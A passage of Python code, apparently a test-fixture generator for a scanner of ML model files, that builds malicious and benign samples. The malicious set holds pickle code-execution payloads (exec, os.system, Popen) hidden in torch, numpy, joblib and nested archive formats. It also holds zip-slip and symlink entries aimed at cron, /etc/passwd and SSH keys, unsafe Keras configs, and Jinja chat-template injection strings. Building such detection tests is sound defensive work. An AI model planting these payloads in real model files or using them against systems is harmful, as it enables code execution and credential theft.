    s["pickle_as.json"] = reduce_p2("builtins", "eval", CODE)
    s["pickle_as.md"] = reduce_p2("builtins", "exec", CODE)
    s["pickle_as.h5"] = evil
    s["pickle_as.onnx"] = evil
    s["pickle_as.gguf"] = evil
    s["pickle_as_model.npy"] = evil
    # --- torch zips ------------------------------------------------------------------------------
    s["torch_zip_as.bin"] = torch_zip(evil)
    s["torch_zip_as.safetensors"] = torch_zip(evil)
    s["torch_zip_deflated.pt"] = torch_zip(evil, method=zipfile.ZIP_DEFLATED)
    s["torch_zip64.pt"] = torch_zip(evil, zip64=True)
    s["torch_zip_odd_prefix.pt"] = torch_zip(evil, prefix="my model (final) v2")
    s["torch_zip_deep_prefix.pt"] = torch_zip(evil, prefix="a/b/c")
    s["torch_zip_prepended_junk.pt"] = b"JUNK" * 64 + torch_zip(evil)
    s["torch_zip_prepended_junk.bin"] = b"\x7fELF" + b"\x00" * 200 + torch_zip(reduce_p2("builtins", "exec", CODE))
    s["torch_zip_persid_abuse.pt"] = torch_zip(
        p2(tup(su("storage"), g0("subprocess", "getoutput"), su("0"), su("cpu"), b"K\x01") + b"Q")
    )
    s["torch_zip_injected_before_state.pt"] = torch_zip(
        b"\x80\x02" + call(g0("builtins", "exec"), CODE) + b"0" + torch_state_dict_pickle()[2:]
    )
    s["torch_zip_constants_pkl.pt"] = torch_zip(torch_state_dict_pickle(), extra={"constants.pkl": evil})
    s["torch_zip_extra_pickle_member.pt"] = torch_zip(torch_state_dict_pickle(), extra={"extra/state.pkl": evil})
    s["torch_zip_debug_pkl.pt"] = torch_zip(torch_state_dict_pickle(), extra={"code/__torch__.py.debug_pkl": evil})
    s["torch_zip_torchscript_load_library.pt"] = torch_zip(
        torch_state_dict_pickle(),
        extra={"code/__torch__/m.py": b"def forward(self):\n    torch.ops.load_library('/tmp/evil.so')\n"},
    )
    s["torch_zip_name_mismatch.pt"] = _patch_local_name(torch_zip(evil), b"archive/data.pkl", b"archive/data.txt")
    s["torch_zip_hidden_local_member.pt"] = _hidden_member_zip(torch_zip(torch_state_dict_pickle()), "archive/data.pkl",
                                                               evil)
    s["torch_zip_bad_crc.pt"] = _corrupt_crc(torch_zip(evil))
    s["torch_zip_encrypted_flag.pt"] = _set_flag(torch_zip(evil), 0x1)
    s["legacy_torch_payload_in_sysinfo.pt"] = legacy_torch(
        [LEGACY_MAGIC, b"\x80\x02M\xe9\x03.", evil, torch_state_dict_pickle(), pickle.dumps(["0"], protocol=2)]
    )
    s["legacy_torch_tar.pt"] = _tar({"sys_info": pickle.dumps({"x": 1}, protocol=2), "pickle": evil,
                                     "storages": b"\x80\x02K\x00.", "tensors": b"\x80\x02K\x00."})
    # --- compression / nesting -------------------------------------------------------------------
    s["gzip_pickle.pkl.gz"] = gzip.compress(evil)
    s["gzip_pickle_no_ext"] = gzip.compress(evil)
    s["bz2_pickle.bin"] = bz2.compress(evil)
    s["xz_pickle.pkl"] = lzma.compress(evil)
    s["lzma_alone_pickle.joblib"] = lzma.compress(evil, format=lzma.FORMAT_ALONE)
    s["zlib_pickle.joblib"] = zlib.compress(evil)
    s["zlib_joblib_payload.joblib"] = zlib.compress(joblib_plain(call(sg("os", "system"), CMD)), 3)
    s["gzip_joblib_payload.joblib"] = gzip.compress(joblib_plain(call(sg("builtins", "exec"), CODE)))
    s["joblib_zf_header.pkl"] = b"ZF0x" + hex(len(evil))[2:].ljust(17).encode() + zlib.compress(evil)
    s["joblib_plain_payload_after_array.joblib"] = joblib_plain(call(sg("posix", "system"), CMD))
    s["double_gzip.pkl.gz"] = gzip.compress(gzip.compress(evil))
    s["gzip_multi_member.gz"] = gzip.compress(pickle.dumps(1)) + gzip.compress(evil)
    s["zip_deflated_member.zip"] = _zip({"model/weights.pkl": evil}, zipfile.ZIP_DEFLATED)
    s["zip_bz2_member.zip"] = _zip({"model.bin": evil}, zipfile.ZIP_BZIP2)
    s["zip_lzma_member.zip"] = _zip({"model.bin": evil}, zipfile.ZIP_LZMA)
    s["zip_in_tar_in_gzip.tar.gz"] = gzip.compress(_tar({"inner/model.zip": _zip({"data.pkl": evil})}))
    s["tar_in_zip.zip"] = _zip({"bundle.tar": _tar({"w/data.pkl": evil})})
    s["zip_in_zip_in_zip.zip"] = _zip({"a.zip": _zip({"b.zip": _zip({"c.pkl": evil})})})
    s["tar_bz2_payload.tar.bz2"] = bz2.compress(_tar({"model.pt": torch_zip(evil)}))
    s["tar_xz_payload.tar.xz"] = lzma.compress(_tar({"model.joblib": zlib.compress(evil)}))
    s["zip_prepended_junk.zip"] = b"MZ" + b"\x00" * 300 + _zip({"model.pkl": evil})
    s["zip_symlink_member.zip"] = _zip_symlink()
    s["zip_slip.zip"] = _zip({"../../evil.pkl": pickle.dumps(1)})
    s["zip_slip_abs.zip"] = _zip({"/etc/cron.d/x": b"* * * * * root id\n"})
    s["tar_slip.tar"] = _tar({"../outside.txt": b"x"})
    s["tar_symlink.tar"] = _tar_symlink()
    # --- numpy ----------------------------------------------------------------------------------
    s["npy_object_payload.npy"] = _npy("|O", (1,), evil)
    s["npy_object_payload_v2.npy"] = _npy("|O", (2,), reduce_p2("subprocess", "Popen", CMD), version=2)
    s["npy_structured_object_field.npy"] = _npy([("a", "<f8"), ("b", "|O")], (1,), evil)
    s["npz_member_payload.npz"] = _zip({"arr_0.npy": _npy("|O", (1,), evil)})
    s["npz_deflated_payload.npz"] = _zip({"x.npy": _npy("<f4", (1,), b"\0" * 4), "y.npy": _npy("|O", (1,), evil)},
                                         zipfile.ZIP_DEFLATED)
    s["npy_as.bin"] = _npy("|O", (1,), evil)
    s["joblib_object_array_payload.joblib"] = joblib_object_array(reduce_p4("os", "system", CMD))
    s["zip_duplicate_names.pt"] = _duplicate_member_zip(torch_state_dict_pickle(), evil)
    # --- keras ----------------------------------------------------------------------------------
    for name, cfg in KERAS_MALICIOUS.items():
        s[f"keras_{name}.keras"] = keras_zip(cfg)
        s[f"keras_{name}.h5"] = h5_with(cfg)
    s["keras_lambda_legacy.h5"] = h5_with(_legacy_lambda())
    s["keras_config_json_in_zip_as.zip"] = keras_zip(KERAS_MALICIOUS["lambda"])
    s["keras_config_standalone_config.json"] = json.dumps(KERAS_MALICIOUS["lambda"]).encode()
    # --- chat templates ---------------------------------------------------------------------------
    for i, tpl in enumerate(TEMPLATES_MALICIOUS):
        s[f"tpl{i:02d}_tokenizer_config.json"] = json.dumps({"chat_template": tpl, "bos_token": "<s>"}).encode()
    for i, tpl in enumerate(TEMPLATES_MALICIOUS[::3]):
        s[f"tpl_list{i:02d}_tokenizer_config.json"] = json.dumps(
            {"chat_template": [{"name": "default", "template": BENIGN_TEMPLATES[0]},
                               {"name": "tool_use", "template": tpl}]}
        ).encode()
        s[f"tpl_gguf{i:02d}.gguf"] = gguf_bytes(
            [("general.architecture", 8, "llama"), ("tokenizer.chat_template", 8, tpl)]
        )
        s[f"tpl_gguf_named{i:02d}.gguf"] = gguf_bytes(
            [("general.architecture", 8, "llama"), ("tokenizer.chat_template.tool_use", 8, tpl)]
        )
        s[f"tpl_file{i:02d}.jinja"] = tpl.encode()
    s["tpl_chat_template.json"] = json.dumps({"chat_template": TEMPLATES_MALICIOUS[0]}).encode()
    return s


# ============================================================== containers and tricks
def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _zip_symlink() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("model.bin")
        info.create_system = 3
        info.external_attr = (0o120777 << 16)
        zf.writestr(info, "/etc/passwd")
    return buf.getvalue()


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _tar_symlink() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo("model.bin")
        info.type = tarfile.SYMTYPE
        info.linkname = "/root/.ssh/id_rsa"
        tf.addfile(info)
    return buf.getvalue()


def _patch_local_name(data: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new)
    idx = data.index(b"PK\x03\x04" + data[data.index(b"PK\x03\x04") + 4:][:0])
    pos = data.index(old, idx)
    return data[:pos] + new + data[pos + len(old):]


def _hidden_member_zip(data: bytes, name: str, payload: bytes) -> bytes:
    """A local entry only a streaming reader sees, placed before the real ones."""
    raw = name.encode()
    crc = zlib.crc32(payload)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(payload), len(payload), len(raw), 0)
    hidden = local + raw + payload
    # Shift every offset of the real archive by the hidden entry's length.
    listing = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    buf.write(hidden)
    with zipfile.ZipFile(buf, "a") as zf:
        for info in listing.infolist():
            zf.writestr(info, listing.read(info.filename))
    return buf.getvalue()


def _corrupt_crc(data: bytes) -> bytes:
    out = bytearray(data)
    pos = 0
    while True:
        pos = out.find(b"PK\x01\x02", pos)
        if pos < 0:
            break
        out[pos + 16 : pos + 20] = b"\xde\xad\xbe\xef"
        pos += 4
    pos = 0
    while True:
        pos = out.find(b"PK\x03\x04", pos)
        if pos < 0:
            break
        out[pos + 14 : pos + 18] = b"\xde\xad\xbe\xef"
        pos += 4
    return bytes(out)


def _set_flag(data: bytes, flag: int) -> bytes:
    out = bytearray(data)
    for magic, off in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        pos = 0
        while True:
            pos = out.find(magic, pos)
            if pos < 0:
                break
            cur = struct.unpack_from("<H", out, pos + off)[0]
            struct.pack_into("<H", out, pos + off, cur | flag)
            pos += 4
    return bytes(out)


def _npy(descr: object, shape: tuple, body: bytes, version: int = 1) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    fmt, n = ("<H", 2) if version == 1 else ("<I", 4)
    pad = 64 - (10 + (n - 2) + len(header) + 1) % 64
    header = header + b" " * pad + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack(fmt, len(header)) + header + body


# ============================================================== keras
def layer(class_name: str, config: object, module: str | None = "keras.layers", registered: str | None = None) -> dict:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered}


def kmodel(*layers: dict) -> dict:
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": list(layers)},
            "registered_name": None}


DENSE = layer("Dense", {"name": "dense", "units": 4, "activation": "relu",
                        "kernel_initializer": layer("GlorotUniform", {"seed": None}, "keras.initializers"),
                        "kernel_regularizer": None, "dtype": "float32"})
LAMBDA_CODE = "4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMEAAAAdABTAKkBTqkA"
KERAS_MALICIOUS: dict[str, dict] = {
    "lambda": kmodel(DENSE, layer("Lambda", {"name": "l", "function": {
        "class_name": "__lambda__", "config": {"code": LAMBDA_CODE, "defaults": None, "closure": None}}})),
    "lambda_function_type": kmodel(layer("Lambda", {"name": "l", "function": LAMBDA_CODE, "function_type": "lambda"})),
    "builtins_exec": kmodel(layer("function", "exec", "builtins")),
    "os_system_layer": kmodel(layer("system", {"command": CMD}, "os")),
    "registered_subprocess": kmodel(layer("Popen", {}, None, "subprocess>Popen")),
    "get_file": kmodel(DENSE, layer("function", "get_file", "keras.utils")),
    "get_file_src": kmodel(layer("function", "get_file", "keras.src.utils.file_utils")),
    "get_file_registered": kmodel(layer("function", {}, "keras.utils", "get_file")),
    "load_model_activation": kmodel(layer("Dense", {"name": "d", "units": 2,
                                                    "activation": layer("function", "load_model", "keras.models")})),
    "load_model_saving": kmodel(layer("function", "load_model", "keras.saving")),
    "load_model_src": kmodel(layer("function", "load_model", "keras.src.saving.saving_api")),
    "enable_unsafe": kmodel(layer("enable_unsafe_deserialization", {}, "keras.config"), DENSE),
    "enable_unsafe_src": kmodel(layer("function", "enable_unsafe_deserialization",
                                      "keras.src.saving.serialization_lib")),
    "enable_unsafe_function": kmodel(layer("function", "enable_unsafe_deserialization", "keras.config")),
    "tfsm_layer": kmodel(layer("TFSMLayer", {"name": "t", "filepath": "/tmp/evil_savedmodel",
                                             "call_endpoint": "serve"})),
    "tfsm_layer_src": kmodel(layer("TFSMLayer", {"name": "t", "filepath": "gs://bucket/evil"},
                                   "keras.src.export.tfsm_layer")),
    "stringlookup_file": kmodel(layer("StringLookup", {"name": "s", "vocabulary": "/etc/passwd"})),
    "textvectorization_file": kmodel(layer("TextVectorization", {"name": "s", "vocabulary": "/root/.ssh/id_rsa"})),
    "tfoplambda": kmodel(layer("TFOpLambda", {"name": "t", "function": "io.write_file"})),
    "module_numpy_load": kmodel(layer("function", "load", "numpy")),
    "builtins_eval_activation": kmodel(layer("Dense", {"name": "d", "units": 2,
                                                       "activation": layer("function", "eval", "builtins")})),
    "importlib_module": kmodel(layer("import_module", {"name": "os"}, "importlib")),
}


def _legacy_lambda() -> dict:
    return {"class_name": "Sequential", "config": {"name": "s", "layers": [
        {"class_name": "Lambda", "config": {"name": "l", "function": [LAMBDA_CODE, None, None],
                                            "function_type": "lambda", "module": "__main__"}}]},
            "keras_version": "2.15.0", "backend": "tensorflow"}


def keras_zip(config: dict) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.5.0", "date_saved": "2025-01-01@00:00:00"}))
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 200)
    return buf.getvalue()


def h5_with(config: dict, training: dict | None = None) -> bytes:
    """HDF5-shaped bytes: superblock magic, then the model_config attribute string as it lies in the heap."""
    body = b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + b"GCOL" + json.dumps(config).encode() + b"\0" * 64
    if training is not None:
        body += json.dumps(training).encode() + b"\0" * 64
    return body + b"\0" * 256


# ============================================================== chat templates
TEMPLATES_MALICIOUS = [
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{% set a = '__cla' ~ 'ss__' %}{{ ''|attr(a)|attr('__mro__') }}",
    "{% set n = ['_', '_', 'globals', '_', '_']|join %}{{ lipsum|attr(n) }}",
    "{{ (('%c'|format(95)) * 2 ~ 'class' ~ ('%c'|format(95)) * 2) }}{{ ''|attr(('%c'|format(95))*2 ~ 'class__') }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__['__builtins__']['eval']('1') }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    "{{ ''.__class__.mro()[1].__subclasses__() }}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ x['__class__'] }}",
    "{{ ''|attr('\\u005f\\u005fclass\\u005f\\u005f') }}",
    "{{ ''|attr('_'*2 ~ 'class' ~ '_'*2) }}",
    "{{ ''|attr('__ssalc__'|reverse) }}",
    "{{ ''|attr('%s%sclass%s%s'|format('_','_','_','_')) }}",
    "{{ ''|attr('__CLASS__'|lower) }}",
    "{{ ''|attr('-+class+-'|replace('-', '_')|replace('+', '_')) }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ url_for.__globals__['os'] }}",
    "{% set x = dict(__class__=1)|list|first %}{{ ''|attr(x) }}",
    "{{ messages.__init__.__globals__ }}",
    "{{ raise_exception.__globals__['os'] }}",
    "{% for m in messages %}{{ m|attr('\\x5f\\x5fclass\\x5f\\x5f') }}{% endfor %}",
    "{{ range.__self__ }}",
    "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ lipsum['__glob' ~ 'als__'] }}",
    "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').system('id') }}",
    "{% set s = ''|attr('__class__') %}{% for m in messages %}{{ m }}{% endfor %}",
    "{{ ''|attr(messages[0]['content']) }}",
    "{% set g = lipsum|attr('__glo' + 'bals__') %}{{ g }}",
    "{{ ''|attr(['__cl', 'ass__']|join) }}",
    "{{ ['']|map(attribute='__class__')|list }}",
    "{{ messages|selectattr('__class__')|list }}",
    "{{ messages|sort(attribute='__class__') }}",
    "{{ ''|attr('\\137\\137class\\137\\137') }}",
    "{{ ''|attr('\\N{LOW LINE}\\N{LOW LINE}class__') }}",
    "{% filter attr('__class__') %}x{% endfilter %}",
    "{{ cycler|attr('__init__')|attr('__globals__') }}",
    "{% set x = namespace() %}{{ x.__init__ }}",
    "{{ ''|attr('__class__'|string) }}",
    "{{ lipsum|attr('_' ~ '_globals_' ~ '_')|attr('get')('os') }}",
]

BENIGN_TEMPLATES = [
    # Llama 3 style
    "{{- bos_token }}\n{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}\n"
    "{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}\n"
    "{%- if not date_string is defined %}{%- if strftime_now is defined %}"
    "{%- set date_string = strftime_now(\"%d %b %Y\") %}{%- else %}{%- set date_string = \"26 Jul 2024\" %}"
    "{%- endif %}{%- endif %}\n{%- if messages[0]['role'] == 'system' %}"
    "{%- set system_message = messages[0]['content']|trim %}{%- set messages = messages[1:] %}"
    "{%- else %}{%- set system_message = \"\" %}{%- endif %}\n"
    "{{- \"<|start_header_id|>system<|end_header_id|>\\n\\n\" }}{{- \"Today Date: \" + date_string + \"\\n\\n\" }}"
    "{%- if tools is not none %}{%- for t in tools %}{{- t | tojson(indent=4) }}{{- \"\\n\\n\" }}{%- endfor %}"
    "{%- endif %}{{- system_message }}{{- \"<|eot_id|>\" }}\n"
    "{%- for message in messages %}{%- if not (message.role == 'ipython' or message.role == 'tool' or "
    "'tool_calls' in message) %}{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ "
    "message['content'] | trim + '<|eot_id|>' }}{%- elif 'tool_calls' in message %}"
    "{%- if not message.tool_calls|length == 1 %}{{- raise_exception(\"This model only supports single tool-calls\") }}"
    "{%- endif %}{%- set tool_call = message.tool_calls[0].function %}"
    "{{- '{\"name\": \"' + tool_call.name + '\", ' }}{{- '\"parameters\": ' }}{{- tool_call.arguments | tojson }}"
    "{{- \"}\" }}{%- endif %}{%- endfor %}\n{%- if add_generation_prompt %}"
    "{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}\n",
    # ChatML
    "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
    "{{ '<|im_start|>system\nYou are a helpful assistant.<|im_end|>\n' }}{% endif %}"
    "{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}",
    # Mistral
    "{%- if messages[0]['role'] == 'system' %}{%- set system_message = messages[0]['content'] %}"
    "{%- set loop_messages = messages[1:] %}{%- else %}{%- set loop_messages = messages %}{%- endif %}\n"
    "{{- bos_token }}{%- for message in loop_messages %}"
    "{%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{- raise_exception('After the optional system message, conversation roles must alternate user/assistant') }}"
    "{%- endif %}{%- if message['role'] == 'user' %}{%- if loop.first and system_message is defined %}"
    "{{- ' [INST] ' + system_message + '\\n\\n' + message['content'] + ' [/INST]' }}{%- else %}"
    "{{- ' [INST] ' + message['content'] + ' [/INST]' }}{%- endif %}{%- elif message['role'] == 'assistant' %}"
    "{{- ' ' + message['content'] + eos_token}}{%- else %}{{- raise_exception('Only user and assistant roles are "
    "supported, with the exception of an initial optional system message!') }}{%- endif %}{%- endfor %}\n",
    # Gemma
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}"
    "{% endif %}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}"
    "{% endif %}{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{'<start_of_turn>model\n'}}{% endif %}",
    # Qwen-style tools with namespace and multimodal content
    "{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}"
    "{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}"
    "{%- if ns.multi_step_tool and message.role == \"user\" and message.content is string and not("
    "message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}"
    "{%- set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}{%- endif %}{%- endfor %}"
    "{%- for message in messages %}{%- if message.content is string %}{%- set content = message.content %}"
    "{%- else %}{%- set content = '' %}{%- for item in message.content %}{%- if item['type'] == 'image' %}"
    "{%- set content = content ~ '<image>' %}{%- elif item.type == 'text' %}"
    "{%- set content = content ~ item.text %}{%- endif %}{%- endfor %}{%- endif %}"
    "{%- if '</think>' in content %}{%- set content = content.split('</think>')[-1].lstrip('\\n') %}{%- endif %}"
    "{{- '<|im_start|>' + message.role + '\\n' + content.strip() + '<|im_end|>\\n' }}"
    "{%- if message.tool_calls %}{%- for tool_call in message.tool_calls %}"
    "{%- if tool_call.function is defined %}{%- set tool_call = tool_call.function %}{%- endif %}"
    "{{- '<tool_call>\\n{\"name\": \"' }}{{- tool_call.name }}{{- '\", \"arguments\": ' }}"
    "{%- if tool_call.arguments is string %}{{- tool_call.arguments }}{%- else %}"
    "{{- tool_call.arguments | tojson }}{%- endif %}{{- '}\\n</tool_call>' }}{%- endfor %}{%- endif %}"
    "{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}"
    "{%- if enable_thinking is defined and enable_thinking is false %}{{- '<think>\\n\\n</think>\\n\\n' }}"
    "{%- endif %}{%- endif %}",
    # Phi / Zephyr style with macros, filters and dict iteration
    "{% macro render(m) %}{{ '<|' ~ m.role ~ '|>\\n' ~ m.content | trim }}{% endmacro %}"
    "{% for message in messages %}{{ render(message) }}{{ eos_token }}\n{% endfor %}"
    "{% if tools %}{% for name, spec in tools.items() | list | sort %}{{ name | upper }}: "
    "{{ spec | tojson }}{% endfor %}{% for t in tools | selectattr('type', 'equalto', 'function') | "
    "map(attribute='function') %}{{ t.name | replace('_', ' ') | title }}{% endfor %}{% endif %}"
    "{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% endif %}",
    # DeepSeek style with string ops and loops over ranges
    "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}"
    "{% set ns = namespace(is_first=false, is_tool=false, system_prompt='') %}"
    "{%- for message in messages %}{%- if message['role'] == 'system' %}"
    "{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}{{ bos_token }}{{ ns.system_prompt }}"
    "{%- for message in messages %}{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}"
    "{{'<｜User｜>' + message['content']}}{%- endif %}{%- if message['role'] == 'assistant' and "
    "message['content'] is not none %}{% set content = message['content'] %}"
    "{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}"
    "{{'<｜Assistant｜>' + content + '<｜end▁of▁sentence｜>'}}{%- endif %}{%- endfor -%}"
    "{% for i in range(3) %}{{ i }}{% endfor %}{{ '%s-%d'|format('x', 3) }}{{ 'a,b'.split(',')|join(' ') }}"
    "{% if add_generation_prompt and not ns.is_tool %}{{'<｜Assistant｜>'}}{% endif %}",
]


# ============================================================== benign samples
def benign_samples() -> dict[str, bytes]:
    s: dict[str, bytes] = {}
    values = {
        "plain_dict": {"a": 1, "b": [1.5, "x", None, True], "c": (1, 2), "d": {"nested": b"bytes"}},
        "containers": [set([1, 2]), frozenset(["a"]), bytearray(b"xy"), range(3), slice(1, 5, 2), complex(1, 2)],
        "ordered": collections.OrderedDict([("w", 1), ("b", 2)]),
        "defaultdict": collections.defaultdict(list, {"a": [1]}),
        "counter_deque": [collections.Counter("hello"), collections.deque([1, 2])],
        "stdlib_values": [datetime.datetime(2024, 1, 2, 3, 4, 5), datetime.date(2024, 1, 1),
                          datetime.timedelta(days=2), decimal.Decimal("1.25"), fractions.Fraction(1, 3),
                          uuid.UUID(int=7)],
        "big_list": list(range(5000)),
        "strings": ["x" * 300, "ünïcödé", b"\x80\x02 not a pickle but bytes" * 3],
        "exceptions": [ValueError("x"), KeyError("k")],
        "none_types": [type(None), Ellipsis, NotImplemented],
    }
    for name, value in values.items():
        for proto in (0, 2, 4, 5):
            s[f"std_{name}_p{proto}.pkl"] = pickle.dumps(value, protocol=proto)
    s["std_pathlib.pkl"] = pickle.dumps(Path("/models/x"), protocol=4)
    import argparse
    import re
    import types

    s["std_namespace.pkl"] = pickle.dumps(argparse.Namespace(lr=0.1, epochs=3), protocol=4)
    s["std_simplenamespace.pkl"] = pickle.dumps(types.SimpleNamespace(a=1), protocol=4)
    s["std_regex.pkl"] = pickle.dumps(re.compile(r"\d+"), protocol=4)
    # numpy via pickle (numpy's own __reduce__), npy/npz via numpy writers.
    arrays = {
        "f32": np.arange(12, dtype=np.float32).reshape(3, 4),
        "i64": np.arange(5),
        "bool": np.array([True, False]),
        "structured": np.zeros(2, dtype=[("x", "<f4"), ("y", "<i2")]),
        "datetime": np.array(["2024-01-01"], dtype="datetime64[D]"),
        "strings": np.array(["a", "bb"]),
        "complex": np.array([1 + 2j]),
        "fortran": np.asfortranarray(np.ones((2, 3))),
        "object_strings": np.array(["a", 1, None], dtype=object),
    }
    for name, arr in arrays.items():
        s[f"np_{name}_p2.pkl"] = pickle.dumps(arr, protocol=2)
        s[f"np_{name}_p5.pkl"] = pickle.dumps(arr, protocol=5)
        buf = io.BytesIO()
        np.save(buf, arr, allow_pickle=True)
        s[f"np_{name}.npy"] = buf.getvalue()
    s["np_scalars.pkl"] = pickle.dumps([np.float64(1.5), np.int32(3), np.bool_(True), np.dtype("f4")], protocol=4)
    s["np_rng.pkl"] = pickle.dumps(np.random.default_rng(0), protocol=4)
    s["np_randomstate.pkl"] = pickle.dumps(np.random.RandomState(0), protocol=2)
    s["np_masked.pkl"] = pickle.dumps(np.ma.masked_array([1, 2], mask=[0, 1]), protocol=2)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", PendingDeprecationWarning)
        s["np_matrix.pkl"] = pickle.dumps(np.matrix([[1, 2]]), protocol=2)
    buf = io.BytesIO()
    np.savez(buf, a=arrays["f32"], b=arrays["i64"])
    s["np_savez.npz"] = buf.getvalue()
    buf = io.BytesIO()
    np.savez_compressed(buf, a=arrays["f32"], obj=arrays["object_strings"])
    s["np_savez_compressed_obj.npz"] = buf.getvalue()
    # Hand-written streams shaped like the real libraries' dumps.
    s["torch_state_dict_data.pkl"] = torch_state_dict_pickle()
    s["torch_state_dict.pt"] = torch_zip(torch_state_dict_pickle())
    s["torch_state_dict.bin"] = torch_zip(torch_state_dict_pickle("BFloat16Storage"), prefix="pytorch_model")
    s["torch_state_dict_zip64.pt"] = torch_zip(torch_state_dict_pickle(), zip64=True)
    s["torch_params.pt"] = torch_zip(torch_param_pickle())
    s["torch_full_module.pth"] = torch_zip(torch_full_module_pickle())
    s["torch_training_ckpt.ckpt"] = torch_zip(torch_optimizer_pickle())
    s["torch_legacy.pt"] = legacy_benign()
    s["torch_torchscript.pt"] = torch_zip(
        torch_state_dict_pickle(),
        extra={"code/__torch__/m.py": b"class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n"
                                      b"    return torch.relu(torch.matmul(x, self.weight))\n",
               "constants.pkl": b"\x80\x02).", "code/__torch__/m.py.debug_pkl": b"\x80\x02).",
               "extra/metadata.json": b"{}"},
    )
    s["sklearn_pipeline.pkl"] = sklearn_pickle()
    s["sklearn_pipeline_p4.pkl"] = sklearn_pickle().replace(b"\x80\x02", b"\x80\x04", 1)
    s["pandas_frame.pkl"] = pandas_pickle()
    s["joblib_plain.joblib"] = joblib_plain()
    s["joblib_zlib.joblib"] = zlib.compress(joblib_plain(), 3)
    s["joblib_gzip.joblib"] = gzip.compress(joblib_plain())
    s["joblib_bz2.joblib"] = bz2.compress(joblib_plain())
    s["joblib_xz.joblib"] = lzma.compress(joblib_plain())
    s["joblib_lzma.joblib"] = lzma.compress(joblib_plain(), format=lzma.FORMAT_ALONE)
    s["sklearn_zlib.pkl.z"] = zlib.compress(sklearn_pickle())
    s["pickle_gz.pkl.gz"] = gzip.compress(pickle.dumps({"a": list(range(100))}))
    s["std_stacked_pickles.pkl"] = pickle.dumps(1) + pickle.dumps({"b": 2}) + pickle.dumps([3])
    s["plain_zip.zip"] = _zip({"config.json": b'{"a": 1}', "README.md": b"# hi\n", "data/x.txt": b"1 2 3"},
                              zipfile.ZIP_DEFLATED)
    s["benign_tar.tar.gz"] = gzip.compress(_tar({"model/config.json": b"{}", "model/w.npy": s["np_f32.npy"]}))
    s["safetensors_model.safetensors"] = _safetensors()
    s["binary_noise.bin"] = bytes((i * 7919 + 13) % 251 for i in range(5000))
    s["text_notes.txt"] = b"cos\nsystem\n are words in a text file, not a pickle.\n" * 3
    s["config.json"] = json.dumps({"architectures": ["LlamaForCausalLM"], "hidden_size": 4096,
